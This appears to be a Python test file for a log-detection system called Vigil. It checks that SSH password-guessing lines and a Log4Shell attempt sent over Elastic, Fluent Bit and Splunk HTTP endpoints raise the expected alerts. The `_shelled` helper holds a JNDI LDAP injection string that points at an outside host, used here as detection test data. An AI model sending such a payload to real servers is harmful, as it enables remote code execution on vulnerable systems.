"""What shippers post over HTTP raises the alerts of the rules that Vigil ships, as the same lines do over syslog."""

import json
import urllib.request
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from tests.receiving import until
from tests.shipped_rules.lines import syslog, web

from vigil.adapters.event_store import EventStore
from vigil.adapters.receivers import ANY, Listening
from vigil.adapters.spool import SpoolReader
from vigil.domain.detection.actions.shipped import import_shipped
from vigil.domain.detection.actions.sources import renew_token, save_source
from vigil.domain.detection.models import Alert, Listener, LogSource, Rule
from vigil.domain.organisations.actions.tree import save_organisation
from vigil.domain.organisations.models import Organisation
from vigil.kernel import clock
from vigil.kernel.actors import Actor
from vigil.workers import detector as module
from vigil.workers.detector import Detector
from vigil.workers.receiver import Receiver

NOW = datetime(2026, 4, 30, 2, tzinfo=UTC)
ACTOR = Actor("cli", "t", "t")
GUESSED, SHELLED = "Passwords are guessed over SSH", "Log4Shell attempt in a web request"


def _refused(ip: str) -> list[str]:
    text = f"Failed password for an from {ip} port 4022 ssh2"
    return [syslog("sshd[12]", text, s=n * 20) for n in range(10)]


def _shelled(ip: str) -> str:
    return web("/tin?x=${jndi:ldap://203.0.113.99/a}", ip=ip)


def _bulk(*documents: dict[str, Any]) -> bytes:
    return b"".join(b'{"create":{}}\n' + json.dumps(document).encode() + b"\n" for document in documents)


def _beats(ip: str) -> bytes:
    about = {"@timestamp": "2026-04-30T01:59:00Z", "host": {"name": "may1"}, "agent": {"type": "filebeat"}}
    lines = [*_refused(ip), _shelled(ip), "Order 17 was accepted"]
    return _bulk(*({**about, "message": line, "log": {"file": {"path": "/a"}}} for line in lines))


def _fluent_bit(ip: str) -> bytes:
    """The journal, whose header is taken apart, and the output of a container."""
    stamped = [(line[:25], line.partition("]: ")[2]) for line in _refused(ip)]
    said = [
        {"@timestamp": at, "SYSLOG_IDENTIFIER": "sshd", "_HOSTNAME": "may1", "MESSAGE": text} for at, text in stamped
    ]
    return _bulk(*said, {"@timestamp": "2026-04-30T01:59:00Z", "log": _shelled(ip) + "\n", "stream": "stdout"})


def _hec(ip: str) -> bytes:
    events = [{"event": line, "sourcetype": "linux_secure", "host": "may1"} for line in _refused(ip)]
    events.append({"event": _shelled(ip), "sourcetype": "access_combined", "host": "may1"})
    return "".join(map(json.dumps, events)).encode()


def _raw(ip: str) -> bytes:
    return "\n".join([*_refused(ip), _shelled(ip)]).encode()


def _post(port: int, path: str, token: str, body: bytes) -> dict[str, Any]:
    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", body, {"Authorization": f"Splunk {token}"})
    request.add_header("Content-Type", "application/json")
    with urllib.request.urlopen(request) as answer:
        assert answer.status == 200
        found: dict[str, Any] = json.loads(answer.read())
        return found


@pytest.mark.django_db(transaction=True)
def test_lines_in_json_raise_the_alerts_that_the_lines_raise(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(module, "ROUND_S", 0.0)
    monkeypatch.setattr(module, "POLL_S", 0.0)
    owner = Organisation(name="Công ty Viễn thông Thử nghiệm", code="T.1")
    save_organisation(organisation=owner, actor=ACTOR, now=NOW)
    import_shipped(actor=ACTOR, now=NOW)

    def source(name: str, **more: str) -> tuple[LogSource, str]:
        made = save_source(source=LogSource(organisation=owner, name=name, **more), actor=ACTOR, now=NOW)
        return made, renew_token(source=made, actor=ACTOR, now=NOW)

    (_, told_by_itself), (nginx, told) = source("Máy chủ"), source("Trang tin", format="nginx")
    receiver = Receiver(
        listening=Listening(http=ANY), spool=tmp_path / "spool", streams=1, least_free_bytes=1024
    )  # fmt: skip
    try:
        receiver.round()
        port = Listener.objects.get().port
        ways = [("/_bulk", _beats), ("/logs/_bulk", _fluent_bit), ("/services/collector/event", _hec),
                ("/services/collector/raw", _raw)]  # fmt: skip
        for n, (path, body) in enumerate(ways):
            answer = _post(port, path, told_by_itself, body(f"203.0.113.{n}"))
            assert not answer.get("errors") and not answer.get("refused")
        said = _bulk(*({"message": line} for line in (_shelled("203.0.113.50"), "Order 17", "Order 18")))
        assert _post(port, "/_bulk", told, said)["errors"] is False
        many = 12 + 11 + 11 + 11 + 3
        reader = SpoolReader(tmp_path / "spool")
        until(lambda: sum(one.data.count(b"\n") + 1 for one in reader.read("net0", None, 10**7).frames) == many)
    finally:
        receiver.close()

    running = frozenset(Rule.objects.values_list("pk", flat=True))
    detector = Detector(
        spool=tmp_path / "spool",
        store=EventStore(tmp_path / "events"),
        plans=tmp_path / "plans",
        lists=tmp_path / "lists",
        runs=lambda organisations, now: dict.fromkeys(organisations, running),
        within=lambda organisation, level: 900,
    )
    try:
        with clock.frozen_at(NOW):
            assert detector.round().startswith(f"{many - 2} events")
            detector.round()
    finally:
        detector.close()
    found = Alert.objects.values_list("title", "entity")
    assert {entity for title, entity in found if title == GUESSED} == {f"203.0.113.{n}" for n in range(4)}
    assert {entity for title, entity in found if title == SHELLED} == {f"203.0.113.{n}" for n in (0, 1, 2, 3, 50)}
    nginx.refresh_from_db()
    assert (nginx.events, nginx.rejected) == (1, 2), "what the format does not fit is counted and shown"
    assert "no line of an access log" in nginx.rejected_samples[0]["why"]
